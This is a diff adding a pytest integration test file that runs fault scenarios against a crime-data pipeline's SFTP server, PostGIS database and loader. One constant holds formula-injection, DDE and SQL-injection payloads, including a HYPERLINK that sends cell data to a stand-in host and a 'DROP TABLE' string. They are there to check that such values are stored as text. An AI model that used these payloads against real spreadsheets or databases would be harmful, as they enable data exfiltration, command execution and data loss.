@@ -1,0 +1,476 @@
+"""The fault matrix of issue 11 on the real services (docs/FAULTS.md): the project's sshd, PostGIS and gpg, and the
+feed's stages as the DAG's tasks call them, each a stage of Airflow's (a stage that raises is what Airflow retries).
+
+Each test ends with nothing lost (the partner's originals in the inbox, or in processed/ once loaded), nothing
+loaded twice (each row once, each file one ledger row) and the partner told (a report in its reports/, or a reason
+in quarantine/). Restarting sshd or PostGIS happens only here, while this session holds the machine's test lock,
+and each is brought back (and checked) in a ``finally``.
+"""
+from __future__ import annotations
+
+import csv
+import errno
+import io
+import re
+import shutil
+import socket
+import subprocess
+import time
+from contextlib import closing, contextmanager
+from dataclasses import replace
+from pathlib import Path
+from typing import Any, Iterator
+from urllib.parse import urlsplit
+
+import psutil
+import psycopg2
+import pytest
+
+from csp_observatory import demo, demo_data, intake, loading, pipeline, postcodes, sftp
+
+pytestmark = pytest.mark.integration
+
+FEED = "police_recorded_crime"
+TABLES = {"offences": "prc_offences", "offenders": "prc_offenders", "victims": "prc_victims"}
+# Each test's own months, far from every other test's.
+P_NET, P_TWO_A, P_TWO_B, P_FULL, P_BIG = "209801", "209802", "209803", "209804", "209805"
+# Values a spreadsheet or a database would run if they were ever treated as anything but text.
+FORMULAS = ('=HYPERLINK("http://x.invalid/?d="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1",
+            "'; DROP TABLE depersonalised.prc_offences; --")
+PERIODS = (P_NET, P_TWO_A, P_TWO_B, P_FULL, P_BIG)
+RUN_ID = "fault_matrix"
+STAGES = ("decrypt_and_verify", "parse_and_validate", "clean", "geocode", "sanitise", "load")
+SUPPLY_TABLES = ("observatory.deliveries", "observatory.supplies", "observatory.rejected_rows",
+                 "observatory.validation_results", "observatory.supply_metadata")
+
+
+# ------------------------------------------------------------------ helpers
+
+
+def _query(settings, sql: str, *args: Any) -> list[tuple]:
+    """A query on a connection of its own: a PostGIS restart breaks every connection opened before it."""
+    with closing(psycopg2.connect(settings.database_url, connect_timeout=10)) as conn, conn.cursor() as cur:
+        cur.execute(sql, args)
+        return cur.fetchall() if cur.description else []
+
+
+def _forget(settings) -> None:
+    with closing(psycopg2.connect(settings.database_url, connect_timeout=10)) as conn:
+        with conn.cursor() as cur:
+            for period in PERIODS:
+                for table in [*(f"depersonalised.{t}" for t in TABLES.values()), *SUPPLY_TABLES]:
+                    cur.execute("SELECT to_regclass(%s) IS NOT NULL", (table,))
+                    if cur.fetchone()[0]:
+                        cur.execute(f"DELETE FROM {table} WHERE supply_id = %s",  # noqa: S608
+                                    (f"{FEED}/{period}",))
+        conn.commit()
+    for period in PERIODS:
+        for root in (settings.staging_dir, settings.reports_dir):
+            shutil.rmtree(Path(root) / FEED / period, ignore_errors=True)
+
+
+@pytest.fixture(scope="module")
+def reference_loaded(settings):
+    return demo.ensure_reference(settings)
+
+
+@pytest.fixture()
+def fresh(settings, clean_partner_folders, reference_loaded):
+    """Nothing of these months in PostGIS, staging or the reports before the test, nor after it."""
+    _forget(settings)
+    yield
+    _forget(settings)
+
+
+def _supply(period: str, n: int = 60) -> dict[str, str]:
+    reference = postcodes.shipped_reference()
+    return demo_data.make_police_recorded_crime(period, reference[~reference["terminated"]], n_offences=n).files
+
+
+def _with_values(text: str, column: str, values: tuple[str, ...]) -> str:
+    """The CSV with ``column`` of its first rows set to ``values``."""
+    rows = list(csv.reader(io.StringIO(text)))
+    at = rows[0].index(column)
+    for row, value in zip(rows[1:], values):
+        row[at] = value
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows(rows)
+    return out.getvalue()
+
+
+def _drop(settings, period: str, files: dict[str, str]) -> list[str]:
+    """As the partner: the supply and its metadata file, encrypted, signed and uploaded; returns the names."""
+    return demo.drop_demo_supply(settings, pipeline.schema_for(FEED), period, files=files)
+
+
+def _ls(settings, sub: str) -> list[str]:
+    with sftp.connect_observatory(settings) as client:
+        return sorted(client.listdir(settings.partner_folder("police", sub)))
+
+
+def _loaded(settings, period: str) -> dict[str, int]:
+    return {f: _query(settings, f"SELECT count(*) FROM depersonalised.{t} WHERE supply_id = %s",  # noqa: S608
+                      f"{FEED}/{period}")[0][0] for f, t in TABLES.items()}
+
+
+def _rows(text: str) -> int:
+    return sum(1 for line in text.splitlines()[1:] if line.strip())
+
+
+def _assert_loaded_once(settings, period: str, files: dict[str, str], names: list[str]) -> None:
+    """Every row of the supply is in PostGIS or among its rejected rows, once; each file has one ledger row,
+    loaded; the originals are in processed/ and the partner has the supply's report."""
+    loaded = _loaded(settings, period)
+    for f, table in TABLES.items():
+        rejected = _query(settings, "SELECT count(*) FROM observatory.rejected_rows WHERE supply_id = %s AND "
+                                    "file_name = %s", f"{FEED}/{period}", f)[0][0]
+        assert loaded[f] > 0 and loaded[f] + rejected == _rows(files[f]), (period, f, loaded, rejected)
+        # the partner's row number is unique in a file: a row loaded twice would repeat it
+        distinct = _query(settings, f"SELECT count(DISTINCT source_row) FROM depersonalised.{table} "  # noqa: S608
+                                    "WHERE supply_id = %s", f"{FEED}/{period}")[0][0]
+        assert distinct == loaded[f], (f, distinct, loaded[f])
+    ledger = _query(settings, "SELECT file_name, status, count(*) FROM observatory.deliveries WHERE supply_id = %s "
+                              "GROUP BY file_name, status", f"{FEED}/{period}")
+    assert sorted(ledger) == sorted((n, "loaded", 1) for n in names), ledger
+    assert set(names) <= set(_ls(settings, "processed")) and not set(names) & set(_ls(settings, "inbox"))
+    assert any(n.startswith(f"{FEED}_{period}_quality_") and n.endswith(".html") for n in _ls(settings, "reports"))
+
+
+def _rest(work: list[str], settings, stages: tuple[str, ...] = STAGES) -> list[str]:
+    for stage in stages:
+        work = getattr(pipeline, stage)(work, settings)
+    return work
+
+
+def _staged_files(settings, period: str) -> list[Path]:
+    return [p for p in (Path(settings.staging_dir) / FEED / period).rglob("*") if p.is_file()]
+
+
+# ------------------------------------------------------------------ the project's sshd
+
+
+def _sshd_listener(port: int) -> psutil.Process:
+    for proc in psutil.process_iter(["name"]):
+        try:
+            if proc.info["name"] == "sshd" and any(c.status == psutil.CONN_LISTEN and c.laddr.port == port
+                                                   for c in proc.net_connections("tcp")):
+                return proc
+        except (psutil.NoSuchProcess, psutil.AccessDenied):
+            continue
+    pytest.skip(f"no sshd of this machine listens on port {port} that this test may restart")
+
+
+def _listening(host: str, port: int) -> bool:
+    try:
+        with socket.create_connection((host, port), timeout=1):
+            return True
+    except OSError:
+        return False
+
+
+@contextmanager
+def _sshd_stopped(settings) -> Iterator[None]:
+    """The project's sshd stopped (sessions in progress go on), started again as it was on the way out."""
+    listener = _sshd_listener(settings.sftp_port)
+    # sshd shows its command line as its title: "sshd: /usr/sbin/sshd -f CONFIG -E LOG [listener] ..."
+    words = listener.cmdline()
+    argv = words[1: words.index("[listener]")] if "[listener]" in words else words
+    assert argv and argv[0].startswith("/"), words
+    listener.terminate()
+    listener.wait(10)
+    try:
+        yield
+    finally:
+        # Its own session, no pipe of this process: the daemon must hold nothing of the test's.
+        subprocess.run(argv, check=True, timeout=30, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                       stderr=subprocess.DEVNULL, start_new_session=True)
+        deadline = time.monotonic() + 20
+        while not _listening(settings.sftp_host, settings.sftp_port) and time.monotonic() < deadline:
+            time.sleep(0.2)
+        with sftp.connect_observatory(settings) as client:       # back, with the pinned host key
+            client.listdir(settings.inbox("police"))
+
+
+def _kill_session(client: Any) -> list[int]:
+    """SIGKILL the sshd processes serving this SFTP session (the connection drops as if the network failed)."""
+    port = client.get_channel().get_transport().sock.getsockname()[1]
+    killed = []
+    for proc in psutil.process_iter(["name"]):
+        try:
+            if proc.info["name"] == "sshd" and any(c.raddr and c.raddr.port == port
+                                                   for c in proc.net_connections("tcp")):
+                proc.kill()
+                killed.append(proc.pid)
+        except (psutil.NoSuchProcess, psutil.AccessDenied):
+            continue
+    return killed
+
+
+class _DroppingFile:
+    """The remote file, read without prefetch; after the first block the server side of the session is killed."""
+
+    def __init__(self, real: Any, client: Any, killed: list[int]) -> None:
+        self.real, self.client, self.killed, self.reads = real, client, killed, 0
+
+    def __enter__(self) -> _DroppingFile:
+        return self
+
+    def __exit__(self, *exc: Any) -> None:
+        try:
+            self.real.close()
+        except Exception:  # noqa: BLE001  the session is gone
+            pass
+
+    def prefetch(self, *args: Any) -> None:
+        """No read-ahead: the transfer is under way, block by block, when the session dies."""
+
+    def read(self, size: int) -> bytes:
+        self.reads += 1
+        if self.reads == 1:
+            return self.real.read(4096)
+        if not self.killed:
+            self.killed += _kill_session(self.client)
+        return self.real.read(size)
+
+
+# ------------------------------------------------------------------ PostGIS
+
+
+def _cluster(settings) -> list[str]:
+    """pg_ctlcluster's version and name of the project's cluster serving the tests' database."""
+    port = urlsplit(settings.database_url).port or 5432
+    try:
+        listing = subprocess.run(["pg_lsclusters", "--no-header"], capture_output=True, text=True, check=True)
+    except (OSError, subprocess.CalledProcessError):
+        pytest.skip("pg_lsclusters is not here: the tests' database is not a cluster of this machine")
+    for line in listing.stdout.splitlines():
+        version, name, cluster_port, *_ = line.split()
+        if cluster_port == str(port):
+            return [version, name]
+    pytest.skip(f"no cluster of this machine listens on port {port} (CSP_DATABASE_URL names another server)")
+
+
+def _restart_postgis(cluster: list[str], settings) -> None:
+    # No pipe of this process: the postmaster it starts must not hold one open (subprocess.run would wait on it).
+    subprocess.run(["pg_ctlcluster", "--skip-systemctl-redirect", *cluster, "restart", "-m", "fast"], check=True,
+                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                   start_new_session=True, timeout=120)
+    deadline = time.monotonic() + 30
+    while True:
+        try:
+            _query(settings, "SELECT 1")
+            return
+        except psycopg2.OperationalError:
+            if time.monotonic() > deadline:
+                raise
+            time.sleep(0.3)
+
+
+# ------------------------------------------------------------------ the tests
+
+
+def test_sshd_down_at_collect_then_a_session_dropped_mid_download_loses_nothing_and_loads_once(
+        settings, fresh, monkeypatch):
+    files = _supply(P_NET, n=400)
+    files["offences"] = _with_values(files["offences"], "method_of_entry", FORMULAS)
+    names = _drop(settings, P_NET, files)
+    assert pipeline.ready_periods(FEED, settings) == [P_NET]          # the sensor saw the supply
+
+    # sshd restarts between the sensor and the collect: the collect fails (Airflow retries it), nothing moved.
+    with _sshd_stopped(settings):
+        with pytest.raises(OSError) as down:
+            pipeline.collect(FEED, [P_NET], RUN_ID, settings)
+        assert not isinstance(down.value, AssertionError)
+    assert _ls(settings, "inbox") == sorted(names)
+
+    # The retry's SFTP session dies while the first file is downloading.
+    killed: list[int] = []
+    real_download = sftp.download
+
+    def dropping_download(client: Any, remote: str, local: Path) -> int:
+        class Client:
+            def open(self, path: str, mode: str) -> _DroppingFile:
+                return _DroppingFile(client.open(path, mode), client, killed)
+        return real_download(Client(), remote, local)   # type: ignore[arg-type]
+
+    monkeypatch.setattr(intake, "download", dropping_download)
+    with pytest.raises(Exception) as dropped:
+        pipeline.collect(FEED, [P_NET], RUN_ID, settings)
+    assert killed and not isinstance(dropped.value, AssertionError), dropped.value
+    monkeypatch.setattr(intake, "download", real_download)
+    # Nothing lost, nothing half-staged, nothing ledgered: the next try starts from the inbox as it was.
+    assert _ls(settings, "inbox") == sorted(names)
+    assert _staged_files(settings, P_NET) == []
+    assert _query(settings, "SELECT count(*) FROM observatory.deliveries WHERE supply_id = %s",
+                  f"{FEED}/{P_NET}")[0][0] == 0
+
+    work = pipeline.collect(FEED, [P_NET], RUN_ID, settings)
+    work = _rest(work, settings)
+    outcome = pipeline.report_and_archive(FEED, work, settings)
+    assert [s["status"] for s in outcome["supplies"]] == ["loaded"]
+    _assert_loaded_once(settings, P_NET, files, names)
+    before = _loaded(settings, P_NET)
+    # Values that look like formulas or SQL are stored as the text they are (and the table is still there).
+    stored = _query(settings, "SELECT method_of_entry FROM depersonalised.prc_offences WHERE supply_id = %s AND "
+                              "method_of_entry = ANY(%s)", f"{FEED}/{P_NET}", list(FORMULAS))
+    assert sorted(v for (v,) in stored) == sorted(FORMULAS)
+
+    # A duplicate delivery: the very same bytes again. Not loaded twice; the partner is told where they went.
+    with sftp.connect_observatory(settings) as client:
+        for name in names:
+            client.posix_rename(f"{settings.partner_folder('police', 'processed')}/{name}",
+                                f"{settings.inbox('police')}/{name}")
+    work = pipeline.collect(FEED, [P_NET], RUN_ID, settings)
+    outcome = pipeline.report_and_archive(FEED, _rest(work, settings), settings)
+    assert [s["status"] for s in outcome["supplies"]] == ["duplicate"]
+    assert _loaded(settings, P_NET) == before
+    assert _ls(settings, "inbox") == [] and set(names) <= set(_ls(settings, "processed"))
+    partner_json = max(n for n in _ls(settings, "reports") if n.startswith(f"{FEED}_{P_NET}_quality_")
+                       and n.endswith(".json"))
+    with sftp.connect_observatory(settings) as client, \
+            client.open(f"{settings.partner_folder('police', 'reports')}/{partner_json}") as fh:
+        assert "already loaded as supply" in fh.read().decode("utf-8")
+
+
+def test_two_months_in_one_drop_with_postgis_restarted_mid_load_each_loads_once(settings, fresh, monkeypatch):
+    cluster = _cluster(settings)
+    supplies = {p: _supply(p) for p in (P_TWO_A, P_TWO_B)}
+    names = {p: _drop(settings, p, files) for p, files in supplies.items()}
+    work = _rest(pipeline.collect(FEED, [P_TWO_A, P_TWO_B], RUN_ID, settings), settings, STAGES[:-1])
+
+    # PostGIS restarts while the first month's load is in its transaction, between two tables' COPYs.
+    real_copy = loading._copy_rows
+    calls: list[int] = []
+
+    def copy_then_restart(cur: Any, target: Any, table: Any) -> None:
+        calls.append(1)
+        if len(calls) == 2:
+            _restart_postgis(cluster, settings)
+        real_copy(cur, target, table)
+
+    monkeypatch.setattr(loading, "_copy_rows", copy_then_restart)
+    work = pipeline.load(work, settings)
+    monkeypatch.setattr(loading, "_copy_rows", real_copy)
+    assert len(calls) > 2, "the restart fell outside the load"
+    # The first month's transaction rolled back whole; the second month loaded on a connection of its own.
+    assert sum(_loaded(settings, P_TWO_A).values()) == 0
+    assert _query(settings, "SELECT count(*) FROM observatory.deliveries WHERE supply_id = %s AND status = 'loaded'",
+                  f"{FEED}/{P_TWO_A}")[0][0] == 0
+    outcome = {s["supply_id"]: s for s in pipeline.report_and_archive(FEED, work, settings)["supplies"]}
+    assert outcome[f"{FEED}/{P_TWO_A}"]["status"] == "failed" and outcome[f"{FEED}/{P_TWO_A}"]["level"] == "red"
+    _assert_loaded_once(settings, P_TWO_B, supplies[P_TWO_B], names[P_TWO_B])
+    # The partner is told, and the original encrypted files wait in the inbox for the next run.
+    assert any(n.startswith(f"{FEED}_{P_TWO_A}_quality_") for n in _ls(settings, "reports"))
+    assert _ls(settings, "inbox") == sorted(names[P_TWO_A])
+
+    # The next run loads the first month once; the second is not touched again.
+    later = _loaded(settings, P_TWO_B)
+    work = _rest(pipeline.collect(FEED, [P_TWO_A], RUN_ID, settings), settings)
+    pipeline.report_and_archive(FEED, work, settings)
+    _assert_loaded_once(settings, P_TWO_A, supplies[P_TWO_A], names[P_TWO_A])
+    assert _loaded(settings, P_TWO_B) == later
+
+
+@contextmanager
+def _tmpfs(folder: Path, size: int) -> Iterator[Path]:
+    folder.mkdir(mode=0o700)
+    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size},mode=0700", "tmpfs", str(folder)],
+                          capture_output=True, text=True)
+    if done.returncode != 0:
+        pytest.skip(f"cannot mount a small tmpfs as the staging folder here: {done.stderr.strip()}")
+    try:
+        yield folder
+    finally:
+        subprocess.run(["umount", "-l", str(folder)], check=True)
+
+
+def test_a_full_staging_disk_fails_the_stage_blames_no_partner_and_the_rerun_loads_once(
+        settings, fresh, tmp_path):
+    files = _supply(P_FULL, n=400)
+    names = _drop(settings, P_FULL, files)
+    with sftp.connect_observatory(settings) as client:
+        encrypted = sum(a.st_size or 0 for a in client.listdir_attr(settings.inbox("police")))
+    # Room for the encrypted files and a little more, not for the offences file's plaintext.
+    room = ((encrypted + 40 * 1024) // 4096 + 1) * 4096
+    assert len(files["offences"].encode()) > room - encrypted
+    with _tmpfs(tmp_path / "staging", room) as small:
+        full = replace(settings, staging_dir=small)
+        work = pipeline.collect(FEED, [P_FULL], RUN_ID, full)
+        with pytest.raises(OSError) as no_room:
+            pipeline.decrypt_and_verify(work, full)
+        assert no_room.value.errno == errno.ENOSPC and not isinstance(no_room.value, AssertionError)
+        # What Airflow runs after the stage's last try: the report (the partner is told), plaintext gone.
+        outcome = pipeline.report_and_archive(FEED, work, full)
+        assert [s["status"] for s in outcome["supplies"]] == ["failed"]
+        assert not [p for p in small.rglob("*") if p.is_file() and p.name != "manifest.json"
+                    and "report" not in p.parts]
+    # Not the partner's fault: nothing quarantined, every original still in the inbox, nothing loaded.
+    assert _ls(settings, "quarantine") == []
+    assert _ls(settings, "inbox") == sorted(names)
+    assert sum(_loaded(settings, P_FULL).values()) == 0
+    assert any(n.startswith(f"{FEED}_{P_FULL}_quality_") for n in _ls(settings, "reports"))
+    # With room again, the next run loads the supply once.
+    work = _rest(pipeline.collect(FEED, [P_FULL], RUN_ID, settings), settings)
+    pipeline.report_and_archive(FEED, work, settings)
+    _assert_loaded_once(settings, P_FULL, files, names)
+
+
+def test_a_1_gib_file_is_refused_from_its_size_without_being_downloaded(settings, fresh, partner_sftp,
+                                                                        monkeypatch):
+    monkeypatch.delenv("CSP_MAX_FILE_BYTES", raising=False)
+    names = _drop(settings, P_BIG, _supply(P_BIG))
+    big = next(n for n in names if n.startswith("prc_offences_"))
+    # A sparse 1 GiB file on the server: it costs no disk, and its listed size is what the observatory judges.
+    with partner_sftp.open(f"/inbox/{big}.part", "wb") as fh:
+        fh.seek((1 << 30) - 1)
+        fh.write(b"\0")
+    partner_sftp.posix_rename(f"/inbox/{big}.part", f"/inbox/{big}")
+    assert partner_sftp.stat(f"/inbox/{big}").st_size == 1 << 30
+    assert pipeline.collect(FEED, [P_BIG], RUN_ID, settings) == []
+    assert big in _ls(settings, "quarantine")
+    with sftp.connect_observatory(settings) as client, \
+            client.open(f"{settings.partner_folder('police', 'quarantine')}/{big}{intake.REASON_SUFFIX}") as fh:
+        reason = fh.read().decode("utf-8")
+    assert re.search(r"1\.0 GiB .*not downloaded", reason), reason
+    assert _staged_files(settings, P_BIG) == []
+    # The supply's other files wait for a right-sized offences file; nothing was loaded.
+    assert _ls(settings, "inbox") == sorted(n for n in names if n != big)
+    assert sum(_loaded(settings, P_BIG).values()) == 0
+
+
+def test_the_analyst_login_reads_no_restricted_table_and_writes_nowhere(settings, demo_config):
+    """Every table of the restricted schemas, and a write of every kind to every table the analyst may read."""
+    with closing(psycopg2.connect(settings.database_url, connect_timeout=10)) as conn, conn.cursor() as cur:
+        cur.execute("SELECT schemaname, tablename FROM pg_tables WHERE schemaname IN "
+                    "('personal', 'observatory', 'depersonalised', 'dq', 'reference') ORDER BY 1, 2")
+        tables = cur.fetchall()
+    restricted = [t for t in tables if t[0] in ("personal", "observatory")]
+    readable = [t for t in tables if t[0] not in ("personal", "observatory")]
+    assert restricted and readable
+    with closing(psycopg2.connect(demo_config["analyst_url"], connect_timeout=10)) as analyst:
+        analyst.autocommit = True
+
+        def refused(statement: str) -> None:
+            with analyst.cursor() as cur, pytest.raises(psycopg2.errors.InsufficientPrivilege):
+                cur.execute(statement)
+
+        for schema_name, table in restricted:
+            refused(f'SELECT 1 FROM "{schema_name}"."{table}" LIMIT 1')
+        for schema_name, table in readable:
+            name = f'"{schema_name}"."{table}"'
+            with analyst.cursor() as cur:
+                cur.execute(f"SELECT 1 FROM {name} LIMIT 1")          # it may read them
+            column = _any_column(settings, schema_name, table)
+            for statement in (f"INSERT INTO {name} DEFAULT VALUES", f"UPDATE {name} SET {column} = NULL WHERE false",
+                              f"DELETE FROM {name} WHERE false", f"TRUNCATE {name}"):
+                refused(statement)
+        for schema_name in ("public", "personal", "observatory", "depersonalised", "dq", "reference"):
+            refused(f'CREATE TABLE "{schema_name}".analyst_was_here (i int)')
+
+
+def _any_column(settings, schema_name: str, table: str) -> str:
+    # not an identity or generated column: PostGIS refuses to set those before it looks at privileges
+    (column,) = _query(settings, "SELECT quote_ident(column_name) FROM information_schema.columns WHERE "
+                                 "table_schema = %s AND table_name = %s AND is_identity = 'NO' AND "
+                                 "is_generated = 'NEVER' ORDER BY ordinal_position LIMIT 1", schema_name, table)[0]
+    return column
